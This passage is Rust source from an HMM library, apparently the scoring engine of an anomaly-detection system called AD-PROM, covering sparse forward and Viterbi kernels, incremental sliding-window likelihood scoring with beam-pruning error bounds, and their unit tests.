        let fp = forward(&hmm, &obs);
        let bd = backward(&hmm, &obs, &fp.scale);
        let bs = backward_sparse(&hmm, &sp, &obs, &fp.scale);
        for t in 0..obs.len() {
            for i in 0..10 {
                assert!((bd[t][i] - bs[t][i]).abs() < 1e-9, "t={t} i={i}");
            }
        }
    }

    #[test]
    fn true_zero_rows_have_zero_background() {
        // Unsmoothed structural zeros: the kernel degenerates to plain CSR
        // and stays exact, including the -inf impossible path.
        let hmm = Hmm::new(
            vec![vec![1.0, 0.0], vec![0.0, 1.0]],
            vec![vec![1.0, 0.0], vec![1.0, 0.0]],
            vec![1.0, 0.0],
        )
        .unwrap();
        let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
        assert_eq!(sp.background(0), 0.0);
        assert_eq!(log_likelihood_sparse(&hmm, &sp, &[0, 1]), f64::NEG_INFINITY);
        assert!(log_likelihood_sparse(&hmm, &sp, &[0, 0]).is_finite());
    }

    #[test]
    fn dense_fallback_rows_stay_exact() {
        // A random (unsmoothed) model has all-distinct rows: every row
        // trips the density threshold and falls back to dense storage.
        let hmm = Hmm::random(6, 4, 11);
        let sp = SparseTransitions::from_hmm(
            &hmm,
            &SparseConfig {
                epsilon: 0.0,
                max_density: 0.3,
            },
        );
        assert_eq!(sp.stats().dense_rows, 6);
        let obs = hmm.sample(30, 5);
        let d = log_likelihood(&hmm, &obs);
        let s = log_likelihood_sparse(&hmm, &sp, &obs);
        assert!((d - s).abs() < 1e-9);
    }

    #[test]
    fn epsilon_folding_bounds_perturbation() {
        let hmm = smoothed(8, 4, 9);
        let eps = 1e-3;
        let sp = SparseTransitions::from_hmm(
            &hmm,
            &SparseConfig {
                epsilon: eps,
                max_density: 1.0,
            },
        );
        assert!(sp.stats().max_fold_deviation <= eps);
        // Rows still sum to 1 under the folded representation: the
        // background applies to all n columns, stored entries add their
        // deviation on top.
        for i in 0..8 {
            let (_, _, devs) = sp.row(i);
            let sum: f64 = devs.iter().sum::<f64>() + sp.background(i) * 8.0;
            assert!((sum - 1.0).abs() < 1e-9, "row {i} sums to {sum}");
        }
    }

    #[test]
    fn viterbi_sparse_matches_dense_logprob() {
        for seed in 0..5 {
            let hmm = smoothed(6, 4, seed + 40);
            let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
            let obs = hmm.sample(30, seed);
            let (pd, ld) = viterbi(&hmm, &obs);
            let (ps, ls) = viterbi_sparse(&hmm, &sp, &obs);
            assert!((ld - ls).abs() < 1e-9, "seed {seed}: {ld} vs {ls}");
            // The returned path must actually achieve the returned score.
            let mut lp = hmm.pi[ps[0]].ln() + hmm.b(ps[0], obs[0]).ln();
            for t in 1..obs.len() {
                lp += hmm.a(ps[t - 1], ps[t]).ln() + hmm.b(ps[t], obs[t]).ln();
            }
            assert!((lp - ls).abs() < 1e-9);
            let _ = pd;
        }
    }

    #[test]
    fn beam_noop_config_matches_exact() {
        let hmm = smoothed(5, 4, 2);
        let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
        let obs = hmm.sample(50, 3);
        let bf = forward_beam(&hmm, &sp, &obs, &BeamConfig::default());
        let exact = log_likelihood(&hmm, &obs);
        assert!((bf.pass.log_likelihood - exact).abs() < 1e-9);
        assert_eq!(bf.pruned_states, 0);
        assert!(bf.gap_bound.abs() < 1e-12);
    }

    #[test]
    fn beam_bound_is_sound() {
        for seed in 0..10 {
            let hmm = smoothed(12, 6, seed);
            let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
            let obs = hmm.sample(60, seed + 7);
            let exact = log_likelihood(&hmm, &obs);
            let bf = forward_beam(
                &hmm,
                &sp,
                &obs,
                &BeamConfig {
                    top_k: Some(4),
                    mass_epsilon: 0.05,
                },
            );
            let gap = exact - bf.pass.log_likelihood;
            assert!(gap >= -1e-9, "pruned LL may never exceed exact: {gap}");
            assert!(
                gap <= bf.gap_bound + 1e-9,
                "seed {seed}: observed gap {gap} exceeds bound {}",
                bf.gap_bound
            );
            assert!(bf.pruned_states > 0);
        }
    }

    #[test]
    fn prune_keeps_mass_and_cap() {
        let mut alpha = vec![0.4, 0.3, 0.2, 0.05, 0.05];
        let mut order = Vec::new();
        let (pm, pc) = prune_alpha(
            &mut alpha,
            &mut order,
            &BeamConfig {
                top_k: Some(3),
                mass_epsilon: 0.0,
            },
        );
        assert_eq!(pc, 2);
        assert!((pm - 0.1).abs() < 1e-12);
        assert_eq!(alpha, vec![0.4, 0.3, 0.2, 0.0, 0.0]);
    }
}
