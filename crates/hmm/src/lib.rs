//! # adprom-hmm
//!
//! Hidden Markov model library for AD-PROM: the substrate replacing the
//! paper's Jahmm dependency. Implements the three classic HMM problems
//! (§II):
//!
//! * **evaluation** — scaled forward algorithm ([`forward()`](forward::forward)), used by the
//!   Detection Engine to compute `P(cs | λ)` for every call sequence;
//! * **decoding** — [`viterbi()`](viterbi::viterbi);
//! * **learning** — multi-sequence Baum–Welch ([`baumwelch`]) with held-out
//!   (CSDS) convergence, used by the Profile Constructor.
//!
//! For monitoring at scale, [`sliding`] provides [`SlidingForward`]: an
//! incremental scorer that advances an n-length detection window by one
//! event in O(N²) instead of recomputing the whole window, and [`sparse`]
//! provides [`SparseTransitions`]: a CSR transition kernel that drops the
//! per-event constant to O(nnz + N) — exactly for smoothed pCTM models via
//! the background + deviation decomposition — plus optional beam pruning
//! with a sound log-likelihood error bound. [`batch`] layers a lane-major
//! cross-window kernel on top ([`score_windows_batch`]): k same-profile
//! windows scored in one pass over the transition structure, each lane
//! bit-identical to the scalar kernel, with an f32 fast path
//! ([`F32Kernel`], [`Precision`]) whose flags are verified against f64
//! near the decision threshold.
//!
//! Models can be initialized randomly (the Rand-HMM baseline) or from the
//! statically computed pCTM (done in `adprom-core`).

#![warn(missing_docs)]

pub mod batch;
pub mod baumwelch;
pub mod forward;
pub mod model;
pub mod sliding;
pub mod sparse;
pub mod viterbi;

pub use batch::{score_windows_batch, BatchScores, F32Kernel, Precision};
pub use baumwelch::{
    mean_log_likelihood, reestimate, reestimate_with_config, train, TrainConfig, TrainReport,
};
pub use forward::{
    backward, forward, log_likelihood, normalized_log_likelihood, step_scores, ForwardPass,
    StepScores,
};
pub use model::{normalize, Hmm, HmmError};
pub use sliding::{scan_scores, SlidingForward, SlidingState, SlidingStats};
pub use sparse::{
    backward_sparse, forward_beam, forward_sparse, log_likelihood_sparse, step_scores_sparse,
    viterbi_sparse, BeamConfig, BeamForward, SparseConfig, SparseStats, SparseTransitions,
};
pub use viterbi::viterbi;
