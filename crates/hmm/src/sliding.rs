//! Incremental sliding-window forward scoring.
//!
//! The Detection Engine scores every n-length call window. Recomputing the
//! scaled forward pass per window costs O(n·N²) per event; over a T-event
//! trace that is O(T·n·N²) — the dominant monitoring cost the paper's
//! overhead tables measure. [`SlidingForward`] brings the per-event cost to
//! O(N²) by maintaining one running scaled alpha vector and a ring buffer
//! of per-event log contributions.
//!
//! Two shapes are provided: [`SlidingForward`] borrows the model (and an
//! optional CSR kernel) for the lifetime of a scan — the natural fit for
//! one-shot trace scoring — while [`SlidingState`] owns only the mutable
//! recurrence state and takes the model per push. The state form is what
//! a session-multiplexing runtime needs: thousands of concurrent sessions
//! keep a `SlidingState` each while sharing one `Arc`-held model, with no
//! self-referential borrows.
//!
//! # Recurrence
//!
//! Rabiner's scaled forward pass factors the log-likelihood of a prefix
//! into per-event terms: processing event `t` turns the scaled alpha
//! vector `α̂_{t-1}` into unnormalized `ᾱ_t(j) = Σ_i α̂_{t-1}(i)·a_ij·b_j(o_t)`,
//! and with `c_t = Σ_j ᾱ_t(j)`,
//!
//! ```text
//! log P(o_r..o_e | λ) = Σ_{t=r..e} ln c_t        (chain anchored at r)
//! ```
//!
//! The ring keeps the last `n` values of `ln c_t`; the score of the window
//! ending at `e` is the sum of the ring — by the telescoping identity this
//! equals `log P(o_r..o_e | λ) − log P(o_r..o_{s-1} | λ)` for window start
//! `s`, i.e. the log-probability of the window's events *conditioned on
//! the chain's history* since the anchor `r`. This conditional semantics
//! is what makes O(N²) advancement possible at all: the π-anchored
//! per-window score `log P(o_s..o_e | λ)` depends on `s` through the
//! whole alpha recursion and cannot be maintained by any fixed set of
//! per-event state vectors.
//!
//! # Impossible prefixes
//!
//! When an event has zero probability given the chain (`c_t = 0`), the
//! telescoping chain breaks. [`SlidingForward::push`] then performs the
//! exact-recompute fallback: it re-anchors — restarting the chain at the
//! offending event from π exactly as a fresh [`crate::forward`] pass
//! would — and records `-inf` as the event's contribution only if the
//! event is impossible even as a sequence start. Any window containing a
//! `-inf` contribution scores `-inf`, matching what a full per-window
//! recompute would report for a window containing an impossible event.
//! Models smoothed with [`crate::Hmm::smooth`] (as AD-PROM profiles are)
//! never hit this path; the anchor then stays at event 0 forever.

use crate::model::Hmm;
use crate::sparse::{prune_alpha, BeamConfig, SparseTransitions};

/// Accounting for one sliding scorer's lifetime — the observability
/// hook the batch pipeline surfaces as `sliding.reanchors` /
/// `sliding.pushes` metrics.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct SlidingStats {
    /// Events pushed since construction (or the last [`SlidingForward::reset`]).
    pub pushes: u64,
    /// Exact-recompute fallbacks taken: the chain hit a zero-probability
    /// prefix and restarted from π. The initial anchoring of a fresh (or
    /// reset) scorer does not count — smoothed models report 0 forever.
    pub reanchors: u64,
    /// α entries zeroed by beam pruning ([`SlidingForward::with_beam`]);
    /// 0 unless a beam is configured.
    pub pruned_states: u64,
}

/// The owned recurrence state of an incremental sliding-window scorer:
/// everything [`SlidingForward`] maintains *except* the borrowed model
/// and kernel, which [`SlidingState::push`] takes per call instead.
///
/// Clone-able and `'static`, so a monitoring runtime can keep one per
/// live session, advance each independently, and snapshot/restore a
/// session by cloning (the retry path of a crash-isolated worker).
#[derive(Debug, Clone)]
pub struct SlidingState {
    window: usize,
    /// Scaled alpha after the most recent event (empty before any event or
    /// right after a dead re-anchor).
    alpha: Vec<f64>,
    scratch: Vec<f64>,
    /// Ring of per-event `ln c_t` contributions; slot `t % window` holds
    /// event `t`'s term.
    ring: Vec<f64>,
    /// Events pushed so far.
    seen: usize,
    /// Absolute index of the event the current chain is anchored at.
    anchor: usize,
    /// True while the chain has no live alpha (before the first event, or
    /// after an event that was impossible even from π).
    dead: bool,
    /// Lifetime accounting (pushes, re-anchor fallbacks).
    stats: SlidingStats,
    /// Optional beam pruning of the running α vector.
    beam: Option<BeamConfig>,
    /// True while a configured beam is suspended
    /// ([`SlidingState::set_beam_active`]): pushes propagate exactly, but
    /// the error recursion keeps running so [`SlidingState::gap_bound`]
    /// stays a sound bound over windows that still overlap pruned pushes.
    beam_idle: bool,
    /// `Ê` of the beam error recursion for the current chain (see
    /// [`crate::sparse::forward_beam`]).
    beam_err: f64,
    /// Running max of `ln(1 + Ê)` over the current chain. A window score
    /// is a difference of two prefix log-likelihoods, each underestimated
    /// by at most the chain's peak — so the peak (not the current value,
    /// which can shrink) bounds the window error in either direction.
    beam_peak: f64,
    /// Mass pruned at the previous push.
    beam_pruned_prev: f64,
    /// Accumulated peaks of chains already closed by a re-anchor.
    beam_gap_base: f64,
    /// Scratch index buffer for beam selection.
    beam_order: Vec<usize>,
}

impl SlidingState {
    /// Creates state for `window`-length windows over an `n_states`-state
    /// model. Panics if `window` is 0.
    pub fn new(n_states: usize, window: usize) -> SlidingState {
        assert!(window > 0, "window length must be positive");
        SlidingState {
            window,
            alpha: vec![0.0; n_states],
            scratch: vec![0.0; n_states],
            ring: Vec::with_capacity(window),
            seen: 0,
            anchor: 0,
            dead: true,
            stats: SlidingStats::default(),
            beam: None,
            beam_idle: false,
            beam_err: 0.0,
            beam_peak: 0.0,
            beam_pruned_prev: 0.0,
            beam_gap_base: 0.0,
            beam_order: Vec::new(),
        }
    }

    /// Enables beam pruning of the running α vector. Every subsequent
    /// [`SlidingState::push`] must supply a sparse kernel; the cumulative
    /// score underestimate is bounded by [`SlidingState::gap_bound`].
    pub fn with_beam(mut self, beam: BeamConfig) -> SlidingState {
        self.beam = Some(beam);
        self
    }

    /// Suspends (`false`) or resumes (`true`) a configured beam without
    /// discarding it — the hook a tiered scheduler uses to demote a
    /// session to pruned scoring and promote it back mid-stream. While
    /// suspended, pushes propagate the full α vector (no new mass is
    /// pruned), but the beam error recursion keeps running so
    /// [`SlidingState::gap_bound`] remains a sound bound for every window
    /// that still overlaps previously pruned pushes. A no-op without a
    /// configured beam.
    pub fn set_beam_active(&mut self, active: bool) {
        self.beam_idle = !active;
    }

    /// True when a beam is configured and not suspended.
    pub fn beam_active(&self) -> bool {
        self.beam.is_some() && !self.beam_idle
    }

    /// Sound bound on the beam-induced window-score error so far:
    /// `|score_exact − score_pruned| ≤ gap_bound()` for every window
    /// emitted up to now. Per chain this is the running peak of
    /// `ln(1 + Ê)` (a window score subtracts two prefix log-likelihoods,
    /// each of which the beam underestimates by at most the peak), summed
    /// across re-anchored chains. 0.0 without a beam.
    pub fn gap_bound(&self) -> f64 {
        self.beam_gap_base + self.beam_peak
    }

    /// The configured window length.
    pub fn window(&self) -> usize {
        self.window
    }

    /// Number of events pushed so far.
    pub fn seen(&self) -> usize {
        self.seen
    }

    /// Absolute index of the event the current forward chain starts at.
    pub fn anchor(&self) -> usize {
        self.anchor
    }

    /// Lifetime accounting: events pushed and re-anchor fallbacks taken.
    pub fn stats(&self) -> SlidingStats {
        self.stats
    }

    /// Advances the window by one event and returns the score of the
    /// window now ending at this event. `hmm` (and `kernel`, when one is
    /// used) must be the same model on every push — the state is just the
    /// recurrence, it holds no reference to check against.
    pub fn push(&mut self, hmm: &Hmm, kernel: Option<&SparseTransitions>, symbol: usize) -> f64 {
        debug_assert_eq!(self.alpha.len(), hmm.n_states(), "state sized for model");
        debug_assert!(
            self.beam.is_none() || kernel.is_some(),
            "beam pruning requires a sparse kernel"
        );
        let n = hmm.n_states();
        let mut c = 0.0;
        if !self.dead {
            // One forward step from the running alpha: either the CSR
            // kernel's background-broadcast + deviation-scatter, or the
            // dense i-outer accumulation that walks A row-by-row through
            // the flat row-major storage.
            match kernel {
                Some(sp) => sp.propagate(&self.alpha, &mut self.scratch),
                None => {
                    self.scratch.iter_mut().for_each(|v| *v = 0.0);
                    for i in 0..n {
                        let alpha_i = self.alpha[i];
                        if alpha_i == 0.0 {
                            continue;
                        }
                        crate::forward::axpy_row(&mut self.scratch, hmm.a_row(i), alpha_i);
                    }
                }
            }
            let mut bmax = 0.0f64;
            for (j, acc) in self.scratch.iter_mut().enumerate() {
                let b = hmm.b(j, symbol);
                bmax = bmax.max(b);
                *acc *= b;
                c += *acc;
            }
            // Beam error recursion, in the live chain's scaled units:
            // Ê ← (Ê + p_prev) · bmax / c (see crate::sparse's module docs).
            if self.beam.is_some() && c > 0.0 {
                self.beam_err = (self.beam_err + self.beam_pruned_prev) * bmax / c;
                self.beam_peak = self.beam_peak.max(self.beam_err.ln_1p());
            }
        }
        if self.dead || c <= 0.0 {
            // Exact-recompute fallback: restart the chain at this event
            // from π, exactly as a fresh forward pass over obs[t..] would.
            // Every restart except the initial anchoring is a re-anchor.
            // A restarted chain carries no beam error, but ring slots from
            // the closed chain may still be in scope — fold its bound into
            // the cumulative base so gap_bound() stays an upper bound.
            if self.beam.is_some() {
                self.beam_gap_base += self.beam_peak;
                self.beam_err = 0.0;
                self.beam_peak = 0.0;
                self.beam_pruned_prev = 0.0;
            }
            if self.seen > 0 {
                self.stats.reanchors += 1;
            }
            c = 0.0;
            for (j, acc) in self.scratch.iter_mut().enumerate() {
                *acc = hmm.pi[j] * hmm.b(j, symbol);
                c += *acc;
            }
            self.anchor = self.seen;
            self.dead = c <= 0.0;
        }
        let contribution = if c > 0.0 {
            let inv = 1.0 / c;
            for (dst, &src) in self.alpha.iter_mut().zip(self.scratch.iter()) {
                *dst = src * inv;
            }
            if let Some(beam) = self.beam {
                if self.beam_idle {
                    // Suspended: nothing pruned this push, so the next
                    // error-recursion step folds in zero fresh mass.
                    self.beam_pruned_prev = 0.0;
                } else {
                    let (pm, pc) = prune_alpha(&mut self.alpha, &mut self.beam_order, &beam);
                    self.beam_pruned_prev = pm;
                    self.stats.pruned_states += pc as u64;
                }
            }
            c.ln()
        } else {
            // Impossible even as a sequence start: symbol unreachable from
            // π. The next event re-anchors again.
            f64::NEG_INFINITY
        };
        if self.ring.len() < self.window {
            self.ring.push(contribution);
        } else {
            self.ring[self.seen % self.window] = contribution;
        }
        self.seen += 1;
        self.stats.pushes += 1;
        self.score()
    }

    /// Log-likelihood of the current window: the sum of the retained
    /// per-event contributions (the last `min(seen, window)` events).
    /// Returns 0.0 before any event — matching `forward(hmm, &[])`.
    pub fn score(&self) -> f64 {
        self.ring.iter().sum()
    }

    /// Clears all state (keeping the beam configuration), ready for a new
    /// trace.
    pub fn reset(&mut self) {
        self.alpha.iter_mut().for_each(|v| *v = 0.0);
        self.ring.clear();
        self.seen = 0;
        self.anchor = 0;
        self.dead = true;
        self.stats = SlidingStats::default();
        self.beam_err = 0.0;
        self.beam_peak = 0.0;
        self.beam_pruned_prev = 0.0;
        self.beam_gap_base = 0.0;
    }
}

/// Incremental scaled-forward scorer over a sliding window.
///
/// Feed events one at a time with [`push`](SlidingForward::push); after
/// each push, [`score`](SlidingForward::score) is the log-likelihood of
/// the current window (the last ≤ `window` events) under the conditional
/// semantics documented at the module level.
///
/// This is the borrow-carrying convenience wrapper over [`SlidingState`]:
/// the model (and kernel) are captured once at construction instead of
/// being passed per push.
#[derive(Debug, Clone)]
pub struct SlidingForward<'a> {
    hmm: &'a Hmm,
    /// Optional CSR kernel: the O(N²) propagation step becomes O(nnz + N).
    kernel: Option<&'a SparseTransitions>,
    state: SlidingState,
}

impl<'a> SlidingForward<'a> {
    /// Creates a scorer for `window`-length windows. Panics if `window`
    /// is 0.
    pub fn new(hmm: &'a Hmm, window: usize) -> SlidingForward<'a> {
        SlidingForward {
            hmm,
            kernel: None,
            state: SlidingState::new(hmm.n_states(), window),
        }
    }

    /// Routes the propagation step through a CSR kernel (O(nnz + N) per
    /// push instead of O(N²)). The kernel must be built from the same
    /// model; with `epsilon = 0` scores match the dense path to FP
    /// reassociation.
    pub fn with_kernel(mut self, kernel: &'a SparseTransitions) -> SlidingForward<'a> {
        assert_eq!(
            kernel.n_states(),
            self.hmm.n_states(),
            "kernel built for a different model"
        );
        self.kernel = Some(kernel);
        self
    }

    /// Enables beam pruning of the running α vector. Requires a kernel
    /// ([`with_kernel`](SlidingForward::with_kernel)); the cumulative
    /// score underestimate is bounded by
    /// [`gap_bound`](SlidingForward::gap_bound).
    pub fn with_beam(mut self, beam: BeamConfig) -> SlidingForward<'a> {
        assert!(
            self.kernel.is_some(),
            "beam pruning requires a sparse kernel"
        );
        self.state = self.state.with_beam(beam);
        self
    }

    /// Sound bound on the beam-induced window-score error so far; see
    /// [`SlidingState::gap_bound`]. 0.0 without a beam.
    pub fn gap_bound(&self) -> f64 {
        self.state.gap_bound()
    }

    /// The configured window length.
    pub fn window(&self) -> usize {
        self.state.window()
    }

    /// Number of events pushed so far.
    pub fn seen(&self) -> usize {
        self.state.seen()
    }

    /// Absolute index of the event the current forward chain starts at.
    /// Stays 0 for smoothed (zero-free) models; advances only through the
    /// impossible-prefix fallback.
    pub fn anchor(&self) -> usize {
        self.state.anchor()
    }

    /// Lifetime accounting: events pushed and re-anchor (exact-recompute)
    /// fallbacks taken. Smoothed models never re-anchor, so
    /// `stats().reanchors` stays 0 on the production profile path.
    pub fn stats(&self) -> SlidingStats {
        self.state.stats()
    }

    /// Advances the window by one event (O(N²)) and returns the score of
    /// the window now ending at this event — equal to [`score`]
    /// (SlidingForward::score).
    pub fn push(&mut self, symbol: usize) -> f64 {
        self.state.push(self.hmm, self.kernel, symbol)
    }

    /// Log-likelihood of the current window: the sum of the retained
    /// per-event contributions (the last `min(seen, window)` events).
    /// Returns 0.0 before any event — matching `forward(hmm, &[])`.
    pub fn score(&self) -> f64 {
        self.state.score()
    }

    /// Clears all state (keeping the kernel/beam configuration), ready for
    /// a new trace.
    pub fn reset(&mut self) {
        self.state.reset();
    }
}

/// Scores every sliding window of `obs` incrementally, returning one score
/// per window (the same window set as [`crate::forward`]-per-window
/// scanning: `len − n + 1` windows for `len > n`, one window otherwise,
/// none for an empty trace).
pub fn scan_scores(hmm: &Hmm, obs: &[usize], window: usize) -> Vec<f64> {
    if obs.is_empty() {
        return Vec::new();
    }
    let mut sliding = SlidingForward::new(hmm, window);
    let mut scores = Vec::with_capacity(obs.len().saturating_sub(window) + 1);
    for (t, &symbol) in obs.iter().enumerate() {
        let score = sliding.push(symbol);
        // Emit once per full window; a short trace emits its single
        // (partial) window at the end.
        if t + 1 >= window {
            scores.push(score);
        }
    }
    if scores.is_empty() {
        scores.push(sliding.score());
    }
    scores
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::forward::{forward, log_likelihood};

    fn smoothed(n: usize, m: usize, seed: u64) -> Hmm {
        let mut hmm = Hmm::random(n, m, seed);
        hmm.smooth(1e-4);
        hmm
    }

    #[test]
    fn matches_prefix_difference_identity() {
        let hmm = smoothed(4, 5, 3);
        let obs = hmm.sample(200, 9);
        let window = 15;
        let mut sliding = SlidingForward::new(&hmm, window);
        for (t, &symbol) in obs.iter().enumerate() {
            let score = sliding.push(symbol);
            assert_eq!(sliding.anchor(), 0, "smoothed model never re-anchors");
            let start = (t + 1).saturating_sub(window);
            let expected = log_likelihood(&hmm, &obs[..=t]) - log_likelihood(&hmm, &obs[..start]);
            assert!(
                (score - expected).abs() < 1e-9,
                "t={t}: incremental {score} vs prefix-difference {expected}"
            );
        }
    }

    #[test]
    fn short_window_equals_full_forward() {
        // Until the first window fills, the score IS the π-anchored full
        // forward log-likelihood of everything seen.
        let hmm = smoothed(3, 4, 7);
        let obs = hmm.sample(10, 2);
        let mut sliding = SlidingForward::new(&hmm, 15);
        for (t, &symbol) in obs.iter().enumerate() {
            let score = sliding.push(symbol);
            let exact = forward(&hmm, &obs[..=t]).log_likelihood;
            assert!((score - exact).abs() < 1e-9, "t={t}: {score} vs {exact}");
        }
    }

    #[test]
    fn impossible_event_reanchors_deterministically() {
        // State/symbol structure where symbol 2 is unreachable after
        // symbol 0 but fine from π.
        let hmm = Hmm::new(
            vec![vec![1.0, 0.0], vec![0.0, 1.0]],
            vec![vec![1.0, 0.0, 0.0], vec![0.0, 0.5, 0.5]],
            vec![0.5, 0.5],
        )
        .unwrap();
        let mut sliding = SlidingForward::new(&hmm, 4);
        sliding.push(0); // chain in state 0
        assert_eq!(sliding.anchor(), 0);
        let score = sliding.push(2); // impossible after 0 → re-anchor from π
        assert_eq!(sliding.anchor(), 1);
        assert_eq!(sliding.stats().reanchors, 1);
        assert_eq!(sliding.stats().pushes, 2);
        assert!(
            score.is_finite(),
            "re-anchored window stays finite: {score}"
        );
        // The re-anchored contribution equals a fresh forward start.
        let fresh = forward(&hmm, &[2]).log_likelihood;
        let window_sum = forward(&hmm, &[0]).log_likelihood + fresh;
        assert!((score - window_sum).abs() < 1e-12);
    }

    #[test]
    fn symbol_impossible_from_pi_scores_neg_infinity() {
        let hmm = Hmm::new(
            vec![vec![1.0, 0.0], vec![0.0, 1.0]],
            vec![vec![1.0, 0.0], vec![1.0, 0.0]], // symbol 1 never emitted
            vec![1.0, 0.0],
        )
        .unwrap();
        let mut sliding = SlidingForward::new(&hmm, 3);
        sliding.push(0);
        assert_eq!(sliding.push(1), f64::NEG_INFINITY);
        // The dead event ages out of the window after 3 more pushes.
        sliding.push(0);
        assert_eq!(sliding.score(), f64::NEG_INFINITY);
        sliding.push(0);
        assert_eq!(sliding.score(), f64::NEG_INFINITY);
        sliding.push(0);
        assert!(sliding.score().is_finite());
    }

    #[test]
    fn scan_scores_window_count_matches_scan_contract() {
        let hmm = smoothed(3, 4, 1);
        let obs = hmm.sample(40, 5);
        assert_eq!(scan_scores(&hmm, &obs, 15).len(), 40 - 15 + 1);
        assert_eq!(scan_scores(&hmm, &obs[..10], 15).len(), 1);
        assert_eq!(scan_scores(&hmm, &[], 15).len(), 0);
        // Short trace: the single score is the exact full-trace likelihood.
        let exact = log_likelihood(&hmm, &obs[..10]);
        assert!((scan_scores(&hmm, &obs[..10], 15)[0] - exact).abs() < 1e-9);
    }

    #[test]
    fn kernel_push_stream_matches_dense() {
        use crate::sparse::{SparseConfig, SparseTransitions};
        let hmm = smoothed(6, 5, 12);
        let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
        let obs = hmm.sample(120, 4);
        let mut dense = SlidingForward::new(&hmm, 15);
        let mut sparse = SlidingForward::new(&hmm, 15).with_kernel(&sp);
        for &s in &obs {
            let d = dense.push(s);
            let k = sparse.push(s);
            assert!((d - k).abs() < 1e-9, "{d} vs {k}");
        }
        assert_eq!(sparse.gap_bound(), 0.0, "no beam, no gap");
    }

    #[test]
    fn beam_scores_lower_bounded_by_gap() {
        use crate::sparse::{BeamConfig, SparseConfig, SparseTransitions};
        let hmm = smoothed(10, 6, 21);
        let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
        let obs = hmm.sample(100, 8);
        let mut exact = SlidingForward::new(&hmm, 15).with_kernel(&sp);
        let mut pruned = SlidingForward::new(&hmm, 15)
            .with_kernel(&sp)
            .with_beam(BeamConfig {
                top_k: Some(3),
                mass_epsilon: 0.02,
            });
        for &s in &obs {
            let e = exact.push(s);
            let p = pruned.push(s);
            let gap = e - p;
            assert!(
                gap.abs() <= pruned.gap_bound() + 1e-9,
                "window gap {gap} exceeds bound {}",
                pruned.gap_bound()
            );
        }
        assert!(pruned.stats().pruned_states > 0);
    }

    #[test]
    fn suspended_beam_scores_exactly_and_resume_prunes() {
        use crate::sparse::{BeamConfig, SparseConfig, SparseTransitions};
        let hmm = smoothed(10, 6, 21);
        let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
        let obs = hmm.sample(120, 8);
        let beam = BeamConfig {
            top_k: Some(3),
            mass_epsilon: 0.02,
        };
        // A beam configured but suspended from the start is bit-identical
        // to no beam at all, and its gap bound stays zero.
        let mut exact = SlidingState::new(hmm.n_states(), 15);
        let mut idle = SlidingState::new(hmm.n_states(), 15).with_beam(beam);
        idle.set_beam_active(false);
        assert!(!idle.beam_active());
        for &s in &obs[..40] {
            let e = exact.push(&hmm, Some(&sp), s);
            let i = idle.push(&hmm, Some(&sp), s);
            assert_eq!(e.to_bits(), i.to_bits(), "suspended beam must be exact");
        }
        assert_eq!(idle.gap_bound(), 0.0);
        assert_eq!(idle.stats().pruned_states, 0);
        // Resume: pruning starts, and every window's error stays within
        // the cumulative gap bound even across the toggle.
        idle.set_beam_active(true);
        assert!(idle.beam_active());
        for &s in &obs[40..80] {
            let e = exact.push(&hmm, Some(&sp), s);
            let p = idle.push(&hmm, Some(&sp), s);
            assert!(
                (e - p).abs() <= idle.gap_bound() + 1e-9,
                "gap {} exceeds bound {}",
                (e - p).abs(),
                idle.gap_bound()
            );
        }
        assert!(idle.stats().pruned_states > 0, "resumed beam prunes");
        let bound_at_suspend = idle.gap_bound();
        assert!(bound_at_suspend > 0.0);
        // Suspend again: no new pruning, the bound keeps covering windows
        // that overlap the pruned stretch.
        idle.set_beam_active(false);
        let pruned_before = idle.stats().pruned_states;
        for &s in &obs[80..] {
            let e = exact.push(&hmm, Some(&sp), s);
            let p = idle.push(&hmm, Some(&sp), s);
            assert!(
                (e - p).abs() <= idle.gap_bound() + 1e-9,
                "post-suspend gap {} exceeds bound {}",
                (e - p).abs(),
                idle.gap_bound()
            );
        }
        assert_eq!(idle.stats().pruned_states, pruned_before);
    }

    #[test]
    fn reset_clears_state() {
        let hmm = smoothed(3, 4, 8);
        let obs = hmm.sample(30, 6);
        let mut sliding = SlidingForward::new(&hmm, 5);
        let first: Vec<f64> = obs.iter().map(|&s| sliding.push(s)).collect();
        sliding.reset();
        assert_eq!(sliding.seen(), 0);
        assert_eq!(sliding.score(), 0.0);
        assert_eq!(sliding.stats(), SlidingStats::default());
        let second: Vec<f64> = obs.iter().map(|&s| sliding.push(s)).collect();
        assert_eq!(first, second, "push streams are deterministic");
    }

    #[test]
    fn owned_state_matches_borrowing_wrapper() {
        // The detached state form drives the same recurrence: interleaving
        // pushes of two independent states against a shared model gives
        // each session exactly the stream a dedicated SlidingForward would.
        use crate::sparse::{SparseConfig, SparseTransitions};
        let hmm = smoothed(5, 6, 17);
        let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
        let obs_a = hmm.sample(60, 1);
        let obs_b = hmm.sample(60, 2);
        let mut wrapped_a = SlidingForward::new(&hmm, 7).with_kernel(&sp);
        let mut wrapped_b = SlidingForward::new(&hmm, 7);
        let mut state_a = SlidingState::new(hmm.n_states(), 7);
        let mut state_b = SlidingState::new(hmm.n_states(), 7);
        for (&a, &b) in obs_a.iter().zip(&obs_b) {
            // Interleaved: a, b, a, b … against the two owned states.
            let sa = state_a.push(&hmm, Some(&sp), a);
            let sb = state_b.push(&hmm, None, b);
            assert_eq!(sa.to_bits(), wrapped_a.push(a).to_bits());
            assert_eq!(sb.to_bits(), wrapped_b.push(b).to_bits());
        }
        assert_eq!(state_a.stats(), wrapped_a.stats());
    }
}
