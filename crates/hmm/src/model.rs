//! The hidden Markov model λ = (A, B, π) — §II of the paper.
//!
//! A and B are stored as contiguous row-major buffers (`a[i * n + j]`,
//! `b[i * m + k]`) rather than nested `Vec<Vec<f64>>`: the forward
//! recursion sweeps whole rows every step, and one flat allocation keeps
//! those sweeps on consecutive cache lines. All access goes through the
//! row/cell accessors; the JSON form remains nested rows for readability
//! and compatibility with previously saved profiles.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde::{de_field, Content, DeError, Deserialize, Serialize};

